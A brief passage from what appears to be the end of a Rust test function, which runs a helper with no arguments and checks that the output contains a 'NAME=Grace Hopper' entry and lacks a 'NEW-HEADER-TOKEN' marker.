    let (third, err) = run(&[]);
    assert!(third.contains("NAME=Grace Hopper"), "{third}\n{err}");
    assert!(!third.contains("NEW-HEADER-TOKEN"), "{third}");
}
